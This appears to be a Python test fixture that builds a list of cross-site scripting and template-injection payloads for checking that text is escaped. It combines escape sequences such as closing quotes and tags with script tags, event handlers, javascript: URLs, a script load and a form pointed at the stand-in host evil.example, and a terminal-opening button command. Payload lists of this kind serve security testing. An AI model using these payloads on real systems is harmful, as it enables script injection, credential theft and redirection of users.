"""Texts that become markup, script or a broken page wherever nobody escapes.

Every way out of a text (end of attribute, of element, of comment) is combined
with every thing that an attacker would put behind it, and a list of oddities
that no rule gives stands at the end.
"""

from __future__ import annotations

from itertools import product

_WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</td></tr></table>",
    "</caption>",
    "</summary></details>",
    "-->",
    "]]>",
    "</textarea></title></style></script>",
    '\n">\t',
    "&quot;>",
    '\\">',
)

_THINGS = (
    "<script>window.__pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.__pwned=1>",
    "<image href=x onerror=alert(1)>",
    "<svg/onload=window.__pwned=1>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,x>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=x></form>",
    "<a href=javascript:alert(1) id=x name=x>y</a>",
    "<button data-commandlinker-command=terminal:create-new>x</button>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    " onmouseover=window.__pwned=1 x=",
    " style=position:fixed;inset:0;background:url(//evil.example) ",
    "<!--",
    "<![CDATA[",
    "<?php echo 1 ?>",
)

_ODDITIES = (
    "{{7*7}}",
    "{% raw %}<b>{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "%(x)s %s {0} {x!r}",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\unicode{<img src=x onerror=alert(1)>}$$",
    "\\(\\style{position:fixed}{x}\\)",
    "[x](javascript:alert(1))",
    "![x](x' onerror='alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    "&#x3c;script&#x3e;",
    "&amp;lt;b&amp;gt;",
    "<\x00script>alert(1)</script>",
    "<scr\u202eipt>",
    "\u2028<b>\u2029",
    "\ud83d<b>\udc00",
    "\ufeff<b>x",
    "\uff1cscript\uff1ealert(1)",
    "\u02bascript\u02ba",
    "\x1b[31m<b>red</b>\x1b]8;;http://evil.example\x07x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "javascript:alert(1)//",
    "<" * 40,
    '"' * 40,
    "&" * 40,
    "<b>" * 40,
    "x=\"1\" y='2' z=`3`",
)

PAYLOADS = (
    tuple(dict.fromkeys([out + thing for out, thing in product(_WAYS_OUT, _THINGS)]))
    + _ODDITIES
)
